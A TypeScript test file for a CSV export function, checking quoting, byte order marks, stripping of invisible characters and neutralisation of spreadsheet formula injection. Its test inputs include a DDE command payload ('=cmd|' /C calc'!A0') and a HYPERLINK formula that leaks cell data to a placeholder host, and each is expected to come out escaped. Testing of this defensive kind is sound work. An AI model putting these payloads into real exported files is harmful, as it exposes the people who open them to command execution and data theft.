import { describe, expect, test } from 'vitest';
import { csvOf, csvRow } from './csv.ts';

describe('a row of CSV', () => {
  test('is separated by commas and ends in CRLF', () => {
    expect(csvRow(['Ada', null, ''])).toBe('Ada,,\r\n');
  });

  test.each([
    ['a comma', 'Lovelace, Ada', '"Lovelace, Ada"'],
    ['quotes', 'the "engine"', '"the ""engine"""'],
    ['a line break', 'one\ntwo', '"one\ntwo"'],
    ['CRLF', 'one\r\ntwo', '"one\r\ntwo"'],
    ['letters of any script', 'Адаòló🔑', 'Адаòló🔑'],
    ['spaces at its ends', ' Ada ', ' Ada '],
    ['a sign inside', 'a=b+c-d@e', 'a=b+c-d@e'],
  ])('keeps a cell with %s', (_, cell, expected) => {
    expect(csvRow([cell])).toBe(`${expected}\r\n`);
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['+234 1 555 0100', "'+234 1 555 0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['=HYPERLINK("https://x.example?"&A1,"ok")', `"'=HYPERLINK(""https://x.example?""&A1,""ok"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['\u200B=1+1', "'=1+1"],
    ['\uFEFF\u202E\u0000@SUM(A1)', "'@SUM(A1)"],
  ])('disarms the formula in %j', (cell, expected) => {
    expect(csvRow([cell])).toBe(`${expected}\r\n`);
  });
});

test('a cell keeps only the invisible characters that its script needs', () => {
  expect(csvRow(['Ada\u202Etxt.exe', 'علی\u200cرضا', 'one\n\ttwo'])).toBe('Adatxt.exe,علی\u200cرضا,"one\n\ttwo"\r\n');
});

test('a table begins with a byte order mark and its header, and continues without them', async () => {
  const rows = async function* () {
    yield { cells: ['a', null], cursor: 'behind a' };
    yield { cells: null };
  };
  const row = { text: 'a,\r\n', cursor: 'behind a' };
  const leftOut = { text: '', cursor: undefined };
  const piecesOf = async (header: string[] | null) => {
    const pieces: unknown[] = [];
    for await (const piece of csvOf(header, rows())) pieces.push(piece);
    return pieces;
  };
  expect(await piecesOf(['One', 'Two'])).toEqual([{ text: '\uFEFFOne,Two\r\n' }, row, leftOut]);
  expect(await piecesOf(null)).toEqual([row, leftOut]);
});
